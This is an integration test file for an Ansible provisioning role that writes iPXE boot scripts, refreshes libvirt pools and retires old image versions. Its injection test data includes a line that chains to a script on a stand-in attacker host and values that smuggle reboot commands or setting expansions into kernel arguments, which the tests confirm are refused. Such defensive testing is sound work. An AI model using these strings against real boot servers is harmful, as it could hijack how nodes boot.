"""The provision role's own rules, through playbooks/provision.yml (and build.yml) on real nodes: iPXE
injection refused before anything is written, live-root kernel arguments with file URLs, the metal/kvm
synonyms, images of two registries side by side, the libvirt pool refresh retried until it succeeds, and
errors in the roles' variables rather than the modules' options."""

from __future__ import annotations

import hashlib
import os

import pytest
from helpers.boot import parse_ipxe
from helpers.images import write_upstream_image
from helpers.inventory import failures_by_host, local_host, outcomes, provision_slug, write_inventory

pytestmark = pytest.mark.integration

REPO = os.path.dirname(os.path.dirname(os.path.dirname(os.path.abspath(__file__))))
BUILD = os.path.join(REPO, "playbooks", "build.yml")
PROVISION = os.path.join(REPO, "playbooks", "provision.yml")
BOOT_URL = "http://pxe.example.com/boot"


def tree(directory):
    """{relative path: sha256 of the content, or 'dir'} of everything under `directory`."""
    found = {}
    for root, dirs, files in os.walk(directory):
        for name in dirs:
            found[os.path.relpath(os.path.join(root, name), directory)] = "dir"
        for name in files:
            path = os.path.join(root, name)
            with open(path, "rb") as stream:
                found[os.path.relpath(path, directory)] = hashlib.sha256(stream.read()).hexdigest()
    return found


INJECTIONS = {
    "newline": ("console=ttyS0\nchain http://evil.example.com/x", '"console=ttyS0\\nchain"'),
    "setting": ("console=ttyS0 root=${root-path}", '"root=${root-path}"'),
    "semicolon": ("console=ttyS0 ; reboot", '";"'),
    "and": ("console=ttyS0 && reboot", '"&&"'),
    "or": ("console=ttyS0 || reboot", '"||"'),
    "comment": ("console=ttyS0 #rest", '"#rest"'),
}


def test_ipxe_injection_is_refused_before_anything_is_written(ansible, tmp_path):
    layout = str(tmp_path / "layout")
    boot_dir = tmp_path / "boot"
    hosts = {}
    for label, (command_line, _token) in INJECTIONS.items():
        # Written directly: the build module refuses such command lines itself.
        name = "registry.example.com/os/injected-%s:1" % label
        write_upstream_image(layout, name, architectures=("amd64",), cmdline=command_line)
        hosts["image-" + label] = {"provision_name": name}
    clean = "registry.example.com/os/clean:1"
    write_upstream_image(layout, clean, architectures=("amd64",), cmdline="console=ttyS0")
    hosts["kernel-args"] = {"provision_name": clean, "provision_kernel_args": "quiet ${x}"}
    hosts["boot-url"] = {"provision_name": clean, "provision_boot_url": "http://pxe.example.com/boot #x"}
    quoted = "registry.example.com/os/quoted:1"
    write_upstream_image(layout, quoted, architectures=("amd64",), cmdline='console=ttyS0 dyndbg="file x.c +p')
    hosts["image-quote"] = {"provision_name": quoted}
    hosts["kernel-args-quote"] = {"provision_name": clean, "provision_kernel_args": 'quiet x="a b'}
    for host, host_vars in hosts.items():
        # What a boot server already serves must stay exactly as it is.
        (boot_dir / host / provision_slug(host_vars["provision_name"])).mkdir(parents=True)
        (boot_dir / host / provision_slug(host_vars["provision_name"]) / "boot.ipxe").write_text("#!ipxe\nexit\n")
        host_vars.setdefault("provision_boot_url", BOOT_URL)
        hosts[host] = local_host(provision_layout=layout, provision_boot_dir=str(boot_dir / host), **host_vars)
    before = tree(boot_dir)
    inventory = write_inventory(str(tmp_path / "hosts.yml"), {"baremetal": hosts})

    rc, document, stderr = ansible.playbook(PROVISION, inventory=inventory)
    assert rc != 0
    failures = failures_by_host(document)
    assert sorted(failures) == sorted(hosts), (failures, stderr)
    task = "Check that the image has what this node needs"
    for label, (_command_line, token) in INJECTIONS.items():
        assert failures["image-" + label] == (
            task,
            "config.commandLine of the image carries %s, which iPXE would run as a command in boot.ipxe: remove it"
            % token,
        )
    assert failures["kernel-args"] == (
        task,
        'provision_kernel_args carries "${x}", which iPXE would run as a command in boot.ipxe: remove it',
    )
    assert failures["boot-url"] == (
        task,
        'provision_boot_url carries "#x", which iPXE would run as a command in boot.ipxe: remove it',
    )
    unclosed = (
        " opens a double quote it never closes; the kernel would read the rest of the kernel line in boot.ipxe as"
        " one value: close or remove it"
    )
    assert failures["image-quote"] == (task, "config.commandLine of the image" + unclosed)
    assert failures["kernel-args-quote"] == (task, "provision_kernel_args" + unclosed)
    assert outcomes(document)["changed"] == []
    assert tree(boot_dir) == before


def test_live_root_kernel_args_synonyms_and_two_registries(ansible, tmp_path):
    layout = str(tmp_path / "layout")
    # The same repository path and tag in two registries: each needs its own boot directory.
    first, second = "reg1.example.com/a/os:1", "reg2.example.com/b/os:1"
    images = {
        name: write_upstream_image(
            layout,
            name,
            architectures=("amd64",),
            roles=("rootfs", "initramfs", "kernel", "squashfs"),
            cmdline="console=ttyS0",
            tag=name,
        )
        for name in (first, second)
    }
    boot_dir = tmp_path / "boot"
    node = {
        "provision_layout": layout,
        "provision_boot_dir": str(boot_dir),
        "provision_cache_dir": str(tmp_path / "cache"),
        "provision_boot_url": BOOT_URL + "/",
        "provision_platform": "metal",
        "provision_kernel_args": "gl.live=1 gl.url={{ provision_file_urls.squashfs }}",
    }
    inventory = write_inventory(
        str(tmp_path / "hosts.yml"),
        {"all_nodes": {"first": local_host(provision_name=first, **node)}},
    )
    play = tmp_path / "play.yml"
    # The role itself, with the synonym as its platform (the playbook always sets the canonical name).
    play.write_text(
        "- hosts: all\n  gather_facts: false\n  tasks:\n"
        "    - ansible.builtin.include_role:\n        name: ironcore.image.provision\n"
        "    - ansible.builtin.include_role:\n        name: ironcore.image.provision\n"
        "      vars:\n        provision_name: %s\n" % second
    )

    for run in ("first", "again"):
        rc, document, stderr = ansible.playbook(str(play), inventory=inventory)
        assert rc == 0, (document, stderr)
        if run == "again":
            assert outcomes(document)["changed"] == [], outcomes(document)["changed"]

    slugs = {name: provision_slug(name) for name in images}
    assert slugs[first] != slugs[second]
    # Each repository has its own stable boot entry too.
    entries = sorted(name for name in os.listdir(boot_dir) if name.endswith("-current"))
    assert len(entries) == 2 and all(entry.startswith("os-") for entry in entries), entries
    assert sorted(set(os.listdir(boot_dir)) - set(entries)) == sorted(slugs.values())
    for name, image in images.items():
        directory = boot_dir / slugs[name]
        for role in ("kernel", "initramfs", "rootfs", "squashfs"):
            assert (directory / role).read_bytes() == image.files[("amd64", role)]
        script_text = (directory / "boot.ipxe").read_text()
        assert "# image:    %s\n" % name in script_text
        assert "# digest:   %s\n" % image.digest in script_text
        script = parse_ipxe(script_text)
        url = "%s/%s" % (BOOT_URL, slugs[name])
        assert script.kernel_url == url + "/kernel"
        assert script.command_line == "initrd=initramfs console=ttyS0 gl.live=1 gl.url=%s/squashfs" % url


def test_pool_refresh_is_retried_until_it_succeeds(ansible, layout_image, tmp_path):
    pool, cache = tmp_path / "pool", tmp_path / "cache"

    def inventory(uri):
        return write_inventory(
            str(tmp_path / "hosts.yml"),
            {
                "hypervisors": {
                    "hv": local_host(
                        provision_name=layout_image.name,
                        provision_layout=layout_image.layout,
                        provision_pool_dir=str(pool),
                        provision_cache_dir=str(cache),
                        provision_libvirt_pool="default-pool",
                        provision_libvirt_uri=uri,
                    )
                }
            },
        )

    # A libvirt socket nobody listens on: libvirtd is not running.
    unreachable = "qemu:///system?socket=%s" % (tmp_path / "no-libvirtd.sock")
    rc, document, stderr = ansible.playbook(PROVISION, inventory=inventory(unreachable))
    assert rc != 0
    assert failures_by_host(document) == {
        "hv": (
            "Stop when the pool could not be refreshed",
            'pool "default-pool" not refreshed: cannot reach libvirt at %s (is libvirtd running?)' % unreachable,
        )
    }, stderr
    disk = pool / ("%s.raw" % provision_slug(layout_image.name))
    assert disk.read_bytes() == layout_image.files["rootfs"]

    # Still unreachable: the disk did not change, yet the refresh is tried (and fails) again.
    rc, document, stderr = ansible.playbook(PROVISION, inventory=inventory(unreachable))
    assert rc != 0
    assert failures_by_host(document)["hv"][0] == "Stop when the pool could not be refreshed"

    # libvirt's test driver answers: the refresh the disk still needs happens now, and only once.
    rc, document, stderr = ansible.playbook(PROVISION, inventory=inventory("test:///default"))
    assert rc == 0, (document, stderr)
    changed = [task for task, _host, _result in outcomes(document)["changed"]]
    assert changed[:3] == [
        "Refresh the pool so libvirt sees the new disk image",
        "Prepare the cache directory for the pool record",
        "Remember that the pool was refreshed for this disk image",
    ]
    # The disk itself was delivered by the first run; what follows is retention's first record of it.
    assert changed[3:] == ["Prepare the directory of delivery records", "Record the versions delivered here"]
    rc, document, stderr = ansible.playbook(PROVISION, inventory=inventory("test:///default"))
    assert rc == 0, (document, stderr)
    assert outcomes(document)["changed"] == []

    # A pool that does not exist is one line too, in virsh's words.
    rc, document, stderr = ansible.playbook(
        PROVISION, inventory=inventory("test:///default"), extra_vars={"provision_libvirt_pool": "no-such-pool"}
    )
    assert rc != 0
    (message,) = [message for _task, message in failures_by_host(document).values()]
    assert message.startswith('pool "no-such-pool" not refreshed: ') and "no-such-pool" in message[35:]
    assert "\n" not in message and "{" not in message


def test_errors_name_the_roles_variables(ansible, registry_plain, layout_image, tmp_path):
    artifacts = tmp_path / "artifacts"
    artifacts.mkdir()
    artifact = {"architecture": "amd64"}
    for role in ("kernel", "initramfs", "rootfs"):
        (artifacts / role).write_bytes(role.encode() * 100)
        artifact[role] = str(artifacts / role)
    name = "%s/os/messages:1" % registry_plain.host
    inventory = write_inventory(
        str(tmp_path / "hosts.yml"),
        {
            "build_hosts": {
                "builder": local_host(
                    build_name=name, build_layout=str(tmp_path / "layout"), build_artifacts=[artifact], build_push=True
                )
            },
            "hypervisors": {"hv": local_host(provision_name=name, provision_pool_dir=str(tmp_path / "pool"))},
        },
    )
    for playbook, host, task, variable in (
        (BUILD, "builder", "Stop when the image could not be pushed", "build_registry_plain_http"),
        (PROVISION, "hv", "Stop when the image cannot be resolved", "provision_registry_plain_http"),
    ):
        rc, document, stderr = ansible.playbook(playbook, inventory=inventory)
        assert rc != 0
        failures = failures_by_host(document)
        assert list(failures) == [host], (failures, stderr)
        failed_task, message = failures[host]
        assert failed_task == task
        assert "set %s: true" % variable in message, message
        assert "plain_http=" not in message and " plain_http" not in message, message
        assert "\n" not in message


LIBVIRT_NODE = """<node>
  <domain type="test">
    <name>busy</name>
    <memory>65536</memory>
    <os><type>hvm</type></os>
    <devices>
      <disk type="file" device="disk"><source file="%s"/><target dev="vda"/></disk>
    </devices>
  </domain>
</node>
"""


def test_retention_keeps_versions_and_spares_disks_in_use(ansible, tmp_path):
    layout = str(tmp_path / "layout")
    names = ["registry.example.com/os/retained:%d" % release for release in (1, 2, 3)]
    slugs = [provision_slug(name) for name in names]
    for name in names:
        write_upstream_image(layout, name, architectures=("amd64",), tag=name)
    busy_pool = tmp_path / "busy-pool"
    # libvirt's test driver with a running domain whose disk is release 1's qcow2 disk.
    node_xml = tmp_path / "libvirt-node.xml"
    node_xml.write_text(LIBVIRT_NODE % (busy_pool / ("%s.qcow2" % slugs[0])))
    inventory = write_inventory(
        str(tmp_path / "hosts.yml"),
        {
            "baremetal": {
                "pxe": local_host(
                    provision_boot_dir=str(tmp_path / "boot"),
                    provision_boot_url=BOOT_URL,
                    provision_cache_dir=str(tmp_path / "pxe-cache"),
                )
            },
            "hypervisors": {
                "hv-raw": local_host(
                    provision_pool_dir=str(tmp_path / "raw-pool"),
                    provision_cache_dir=str(tmp_path / "raw-cache"),
                    # Its one running domain uses none of these disks.
                    provision_libvirt_uri="test:///default",
                ),
                "hv-busy": local_host(
                    provision_pool_dir=str(busy_pool),
                    provision_cache_dir=str(tmp_path / "busy-cache"),
                    provision_disk_format="qcow2",
                    provision_keep_raw=False,
                    provision_libvirt_uri="test://%s" % node_xml,
                ),
            },
        },
        {"provision_layout": layout},
    )

    def delivered():
        return {
            # Versions only: the repository's stable boot entry (<repository>-<id>-current) is never retired.
            "pxe": sorted(n for n in os.listdir(tmp_path / "boot") if not n.endswith("-current")),
            "hv-raw": sorted(n for n in os.listdir(tmp_path / "raw-pool") if not n.startswith(".")),
            "hv-busy": sorted(n for n in os.listdir(busy_pool) if not n.startswith(".")),
            "busy-cache": sorted(n for n in os.listdir(tmp_path / "busy-cache") if n != "delivered"),
        }

    def provision(name, check=False):
        rc, document, stderr = ansible.playbook(
            PROVISION, inventory=inventory, extra_vars={"provision_name": name}, check=check
        )
        assert rc == 0, (name, check, failures_by_host(document), stderr)
        return document

    provision(names[0])
    provision(names[1])
    two = delivered()
    assert two["pxe"] == sorted(slugs[:2])

    # Check mode tells what it would remove and removes nothing.
    document = provision(names[2], check=True)
    assert delivered() == two
    removals = {
        host for task, host, _r in outcomes(document)["changed"] if task == "Remove the files of older versions"
    }
    assert removals == {"pxe", "hv-raw"}

    provision(names[2])
    assert delivered() == {
        "pxe": sorted(slugs[1:]),
        "hv-raw": sorted("%s.raw" % slug for slug in slugs[1:]),
        # Release 1's disk is attached to a running domain: it stays, and so does its cache.
        "hv-busy": sorted("%s.qcow2" % slug for slug in slugs),
        "busy-cache": sorted(slugs),
    }
    # provision_keep_raw: false: the qcow2 disks' raw rootfs is not kept.
    for slug in slugs:
        assert not (tmp_path / "busy-cache" / slug / "rootfs").exists()

    document = provision(names[2])
    assert outcomes(document)["changed"] == [], outcomes(document)["changed"]
    assert "Fetch the image's files" in {task for task, host, _r in outcomes(document)["skipped"] if host == "hv-busy"}

    # libvirt does not answer: no disk is known to be unused, so none is removed.
    rc, document, stderr = ansible.playbook(
        PROVISION,
        inventory=inventory,
        extra_vars={
            "provision_name": names[2],
            "provision_keep_versions": 1,
            "provision_libvirt_uri": "qemu:///system?socket=%s" % (tmp_path / "no-libvirtd.sock"),
        },
    )
    assert rc == 0, (failures_by_host(document), stderr)
    after = delivered()
    assert after["pxe"] == [slugs[2]]
    assert after["hv-raw"] == sorted("%s.raw" % slug for slug in slugs[1:])
    # It says so, naming why and what it kept, as a warning of its own (not a line among the skipped tasks).
    warned = {
        host: result.get("warnings")
        for task, host, result in outcomes(document)["ok"]
        if task == "Warn that older versions stay because libvirt does not answer"
    }
    assert sorted(warned) == ["hv-busy", "hv-raw"], warned
    (message,) = warned["hv-raw"]
    assert message.startswith(
        "provision_keep_versions: kept %s beyond the newest 1: libvirt at qemu:///system?socket=" % names[1]
    ), message
    assert "does not answer (" in message and "start libvirtd" in message and "\n" not in message
    (message,) = warned["hv-busy"]
    assert message.startswith("provision_keep_versions: kept %s, %s beyond the newest 1: " % tuple(names[:2]))
    # What an operator sees with Ansible's own output: a [WARNING] line, not a skipped task.
    rc, document, stderr = ansible.playbook(
        PROVISION,
        inventory=inventory,
        extra_vars={
            "provision_name": names[2],
            "provision_keep_versions": 1,
            "provision_libvirt_uri": "qemu:///system?socket=%s" % (tmp_path / "no-libvirtd.sock"),
        },
        env={"ANSIBLE_STDOUT_CALLBACK": "default"},
    )
    assert rc == 0, (document, stderr)
    printed = " ".join((document.get("raw", "") + stderr).split())
    assert printed.count("[WARNING]: provision_keep_versions: kept ") == 2, printed
